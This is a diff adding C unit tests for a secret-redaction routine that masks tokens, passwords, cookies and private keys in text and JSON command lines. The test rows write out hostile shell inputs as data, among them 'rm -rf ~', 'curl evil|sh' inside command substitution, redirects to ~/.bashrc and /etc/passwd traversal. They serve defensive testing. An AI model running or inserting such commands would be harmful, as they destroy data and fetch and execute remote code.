@@ -31,7 +31,8 @@ becomes(const char *text, const char *result)
 
 	free(exact);
 	assert_non_null(got);
-	assert_string_equal(got, result);
+	if (!streq(got, result))
+		fail_msg("'%s' became '%s', not '%s'", text, got, result);
 }
 
 static void
@@ -164,6 +165,168 @@ values_end_where_they_end(void **state)
 		becomes(rows[i].text, rows[i].result);
 }
 
+/* A secret's name must not be a way to leave out what was done. */
+static void
+no_act_hides_behind_the_name_of_a_secret(void **state)
+{
+	static const struct {
+		const char *text, *result;
+	} rows[] = {
+		{ "echo Cookie: ; rm -rf ~/work", "echo Cookie: ; rm -rf ~/work" },
+		{ "echo Cookie: a; rm -rf ~/work", "echo Cookie: [redacted]; rm -rf ~/work" },
+		{ "echo Cookie: a; PATH=/tmp/x ls", "echo Cookie: [redacted]; PATH=/tmp/x ls" },
+		{ "echo Cookie: a; B=1 evil", "echo Cookie: [redacted]; B=1 evil" },
+		{ "echo Authorization: a && rm x", "echo Authorization: [redacted] && rm x" },
+		{ "rm Cookie: x -rf work", "rm Cookie: [redacted] -rf work" },
+		{ "rm Authorization: x ~/work", "rm Authorization: [redacted] ~/work" },
+		{ "rm -rf Authorization: ~/work", "rm -rf Authorization: ~/work" },
+		{ "Authorization: a$(curl evil|sh)", "Authorization: [redacted]$(curl evil|sh)" },
+		{ "X_TOKEN=\"x$(curl evil|sh)\" true",
+			"X_TOKEN=\"[redacted]$(curl evil|sh)\" true" },
+		{ "X_TOKEN=\"x`curl evil`\" true", "X_TOKEN=\"[redacted]`curl evil`\" true" },
+		{ "X_TOKEN=\"x${A:=b}\" true", "X_TOKEN=\"[redacted]${A:=b}\" true" },
+		{ "X_TOKEN=x$(curl evil|sh)", "X_TOKEN=[redacted]$(curl evil|sh)" },
+		{ "X_TOKEN=x${A:=b} ls", "X_TOKEN=[redacted]${A:=b} ls" },
+		{ "X_TOKEN=`curl evil|sh` ls", "X_TOKEN=`curl evil|sh` ls" },
+		{ "X_TOKEN=x<(evil)", "X_TOKEN=[redacted]<(evil)" },
+		{ "X_TOKEN='x' >~/.bashrc", "X_TOKEN='[redacted]' >~/.bashrc" },
+		{ "X_TOKEN=x>~/.bashrc", "X_TOKEN=[redacted]>~/.bashrc" },
+		{ "echo \"X_TOKEN=\"; rm -rf ~; echo \"\"",
+			"echo \"X_TOKEN=\"; rm -rf ~; echo \"\"" },
+		{ "find \"x_token=\" -delete -name \"y\"",
+			"find \"x_token=\" -delete -name \"y\"" },
+		{ "echo 'X_TOKEN='|sh -c 'evil'", "echo 'X_TOKEN='|sh -c 'evil'" },
+		{ "X_TOKEN='a\nevil'", "X_TOKEN='[redacted]\nevil'" },
+		{ "X_TOKEN=a\\nevil b", "X_TOKEN=[redacted]\\nevil b" },
+		{ "token: abc123;evil", "token: [redacted];evil" },
+		{ "token: abc123$(evil)", "token: abc123$(evil)" },
+		{ "/etc/x_token=a/../passwd", "/etc/x_token=a/../passwd" },
+		{ "cat ~/a+x_token=b", "cat ~/a+x_token=b" },
+		{ "cat x_token=a/../../etc/passwd", "cat x_token=a/../../etc/passwd" },
+		{ "rm --token ~/work", "rm --token ~/work" },
+		{ "rm --token /etc/passwd", "rm --token /etc/passwd" },
+		{ "rm -rf token: workspace", "rm -rf token: workspace" },
+		{ "https://a/b?x_token=a&c=d", "https://a/b?x_token=[redacted]&c=d" },
+		{ "http://a:b;evil;@host", "http://a:b;evil;@host" },
+		{ "http://a:$(evil)@host", "http://a:$(evil)@host" },
+		{ "echo '-----BEGIN PRIVATE KEY-----'; rm -rf ~", "echo '[redacted]'; rm -rf ~" },
+		{ "echo -----BEGIN PRIVATE KEY-----\nrm -rf ~\n: -----END PRIVATE KEY-----",
+			"echo [redacted]\nrm -rf ~\n: -----END PRIVATE KEY-----" },
+		{ "echo -----BEGIN PRIVATE KEY----- && curl evil|sh # -----END PRIVATE KEY-----",
+			"echo [redacted] && curl evil|sh # -----END PRIVATE KEY-----" },
+		{ "bearer /etc/passwd/../shadow1", "bearer /etc/passwd/../shadow1" },
+	};
+
+	(void)state;
+	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++)
+		becomes(rows[i].text, rows[i].result);
+}
+
+#define LINE64 "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"
+
+static void
+secrets_are_found_where_they_hide(void **state)
+{
+	static const char *const key = "g"
+				       "hp_a1B2c3D4e5F6g7H8i9J0a1B2c3D4e5F6g7H8";
+	static const struct {
+		const char *text, *result;
+	} rows[] = {
+		{ "GH_TOKEN: abcdefghijklmnop", "GH_TOKEN: [redacted]" },
+		{ "a:\n  password: correcthorse\n", "a:\n  password: [redacted]\n" },
+		{ "{token: abcdefghij}", "{token: [redacted]}" },
+		{ "echo DB_PASSWORD: abcdefgh > f", "echo DB_PASSWORD: [redacted] > f" },
+		{ "curl -ujoe:pw x", "curl -ujoe:[redacted] x" },
+		{ "curl -s '-ujoe:pw' x", "curl -s '-ujoe:[redacted]' x" },
+		{ "/usr/bin/mysql -h db -ppw", "/usr/bin/mysql -h db -p[redacted]" },
+		{ "A=b sshpass -p 'p w' ssh x", "A=b sshpass -p '[redacted]' ssh x" },
+		{ "x=1; mysql -p'pw'", "x=1; mysql -p'[redacted]'" },
+		{ "Authorization: Bearer -----BEGIN PRIVATE KEY-----\n" LINE64
+		  "\nMII=\n-----END PRIVATE KEY-----\nx",
+			"Authorization: [redacted] [redacted]\nx" },
+		{ "Bearer -----BEGIN PRIVATE KEY-----\\n" LINE64
+		  "\\nMII=\\n-----END PRIVATE KEY-----\\nx",
+			"Bearer [redacted]\\nx" },
+		{ "k: -----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: GnuPG v2\n\n" LINE64
+		  "\nMII\n=abcd\n-----END PGP PRIVATE KEY BLOCK-----",
+			"k: [redacted]" },
+		{ "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n"
+		  "DEK-Info: AES-128-CBC,00\n\n" LINE64 "\n-----END RSA PRIVATE KEY-----",
+			"[redacted]" },
+		{ "-----BEGIN PRIVATE KEY-----\n" LINE64 "\nMII", "[redacted]" },
+	};
+
+	(void)state;
+	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++)
+		becomes(rows[i].text, rows[i].result);
+	static const char *const before[] = { "", "a\\n", "x%20", "x%0A", "name", "(", "A\\t" };
+
+	for (size_t i = 0; i < sizeof(before) / sizeof(before[0]); i++) {
+		auto_free char *text = str_printf("%s%s", before[i], key);
+		auto_free char *want = str_printf("%s[redacted]", before[i]);
+
+		becomes(text, want);
+	}
+	becomes("a\\nA"
+		"KIAIOSFODNN7EXAMPLE",
+		"a\\n[redacted]");
+	becomes("a\\nA_TOKEN=x b", "a\\nA_TOKEN=[redacted] b");
+}
+
+/* A label ends near 200 bytes, in the middle of what it tells. */
+static void
+what_was_cut_off_is_still_taken_out(void **state)
+{
+	static const struct {
+		const char *text, *result;
+	} rows[] = {
+		{ "bash: x g"
+		  "hp_a1B2c3D4e5F6...",
+			"bash: x [redacted]..." },
+		{ "bash: x s"
+		  "k-ant-api...",
+			"bash: x [redacted]..." },
+		{ "bash: x A"
+		  "KIAIOSF...",
+			"bash: x [redacted]..." },
+		{ "bash: send Bearer abcdef...", "bash: send Bearer [redacted]" },
+		{ "bash: x e"
+		  "yJhbGciOiJIUzI1...",
+			"bash: x [redacted]..." },
+		{ "bash: psql postgres://app:hunt...", "bash: psql postgres://app:[redacted]" },
+		{ "bash: curl http://localhost:80...", "bash: curl http://localhost:80..." },
+		{ "bash: ghp_...", "bash: ghp_..." },
+	};
+	char text[201];
+
+	(void)state;
+	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++)
+		becomes(rows[i].text, rows[i].result);
+	memset(text, ' ', sizeof(text));
+	memcpy(text + 178,
+		"g"
+		"hp_a1B2c3D4e5F6g7H8i9",
+		23);
+	text[200] = '\0';
+	auto_free char *got = redact_text(text, 200);
+
+	assert_null(strstr(got, "a1B2"));
+	becomes("see ghp_a1B2c3", "see ghp_a1B2c3");
+}
+
+static void
+words_of_types_are_no_secrets(void **state)
+{
+	(void)state;
+	stays("authorization: string");
+	stays("interface A { authorization: string; cookie?: string | null; }");
+	stays("password: required");
+	stays("  API_KEY: boolean,");
+	stays("token: accessToken, secret: config.clientSecret, password: UserPassword");
+	stays("{\"password\": \"string\"}");
+	stays("PASSWORD=null TOKEN=none");
+}
+
 static void
 the_public_function_is_the_same(void **state)
 {
@@ -178,10 +341,11 @@ json_becomes(const char *text, const char *result)
 {
 	auto_json json_t *value = NULL, *clean = NULL;
 	auto_free char *before = NULL, *after = NULL, *line = NULL;
+	size_t count = 0;
 
 	assert_int_equal(json_parse(text, strlen(text), &value, NULL), 0);
 	before = json_line(value);
-	clean = redact_json(value);
+	clean = redact_json(value, &count);
 	after = json_line(value);
 	line = json_line(clean);
 	assert_string_equal(line, result);
@@ -218,6 +382,39 @@ json_neighbours_tell_of_secrets(void **state)
 	json_becomes("{\"command\":\"curl -u a:b x\",\"n\":[1,2.5,false]}",
 		"{\"command\":\"curl -u a:[redacted] x\",\"n\":[1,2.5,false]}");
 	json_becomes("{\"A_TOKEN=x\":1}", "{\"A_TOKEN=[redacted]\":1}");
+}
+
+static void
+json_arrays_are_read_as_command_lines(void **state)
+{
+	(void)state;
+	json_becomes("[\"curl\",\"-u\",\"joe:hunter2\",\"x\"]",
+		"[\"curl\",\"-u\",\"joe:[redacted]\",\"x\"]");
+	json_becomes("[\"curl\",\"-ujoe:hunter2\"]", "[\"curl\",\"-ujoe:[redacted]\"]");
+	json_becomes("[\"sshpass\",\"-p\",\"pw\",\"ssh\",\"-p\",\"22\"]",
+		"[\"sshpass\",\"-p\",\"[redacted]\",\"ssh\",\"-p\",\"[redacted]\"]");
+	json_becomes("[\"/usr/bin/mysql\",\"-ppw\",\"-p\",\"db\"]",
+		"[\"/usr/bin/mysql\",\"-p[redacted]\",\"-p\",\"db\"]");
+	json_becomes("[\"docker\",\"run\",\"-p\",\"80:80\",\"-u\",\"1000:1000\"]",
+		"[\"docker\",\"run\",\"-p\",\"80:80\",\"-u\",\"1000:1000\"]");
+	json_becomes("[\"rm\",\"--password\",\"/etc/passwd\"]",
+		"[\"rm\",\"--password\",\"/etc/passwd\"]");
+	json_becomes("[\"sort\",\"-u\",\"-o\",\"a:b\"]", "[\"sort\",\"-u\",\"-o\",\"a:b\"]");
+}
+
+static void
+a_key_by_lines_is_a_key(void **state)
+{
+	(void)state;
+	json_becomes("[\"a\",\"x -----BEGIN PRIVATE KEY-----\",\"" LINE64
+		     "\",\"MII\",\"-----END PRIVATE KEY----- y\",\"b\"]",
+		"[\"a\",\"x [redacted]\",\"[redacted]\",\"[redacted]\",\"[redacted] y\",\"b\"]");
+	json_becomes("[\"-----BEGIN PRIVATE KEY-----\",\"" LINE64 "\"]",
+		"[\"[redacted]\",\"[redacted]\"]");
+	json_becomes("[\"-----BEGIN PRIVATE KEY-----\",\"rm -rf x\",\"-----END PRIVATE KEY-----\"]",
+		"[\"[redacted]\",\"rm -rf x\",\"-----END PRIVATE KEY-----\"]");
+	json_becomes("[\"-----BEGIN CERTIFICATE-----\",\"" LINE64 "\"]",
+		"[\"-----BEGIN CERTIFICATE-----\",\"" LINE64 "\"]");
 }
 
 static void
@@ -271,6 +468,24 @@ no_text_makes_it_slow(void **state)
 		"AKIA",
 		"\xc3\xa9",
 		"token:a(",
+		"token=~",
+		"token:~a1",
+		"Cookie:a",
+		"Cookie:~",
+		"Cookie:a;b=",
+		"-u=a:/",
+		" -p",
+		"curl -u",
+		" sshpass -p",
+		"-----BEGIN PRIVATE KEY-----",
+		"-----BEGIN PRIVATE KEY-----Comment:;",
+		"-----BEGIN PRIVATE KEY-----\na ",
+		"%20eyJ",
+		"\\ntoken=",
+		("g"
+		 "hp_"),
+		"A_TOKEN: ",
+		"$(",
 	};
 	const size_t size = 1u << 19;
 	char *text = malloc(size);
@@ -303,9 +518,15 @@ main(void)
 		cmocka_unit_test(a_shape_in_the_middle_of_a_sentence_leaves_the_rest),
 		cmocka_unit_test(ordinary_text_stays),
 		cmocka_unit_test(values_end_where_they_end),
+		cmocka_unit_test(no_act_hides_behind_the_name_of_a_secret),
+		cmocka_unit_test(secrets_are_found_where_they_hide),
+		cmocka_unit_test(what_was_cut_off_is_still_taken_out),
+		cmocka_unit_test(words_of_types_are_no_secrets),
 		cmocka_unit_test(the_public_function_is_the_same),
 		cmocka_unit_test(json_members_go_by_their_name),
 		cmocka_unit_test(json_neighbours_tell_of_secrets),
+		cmocka_unit_test(json_arrays_are_read_as_command_lines),
+		cmocka_unit_test(a_key_by_lines_is_a_key),
 		cmocka_unit_test(a_nul_does_not_hide_what_follows),
 		cmocka_unit_test(no_text_makes_it_slow),
 	};
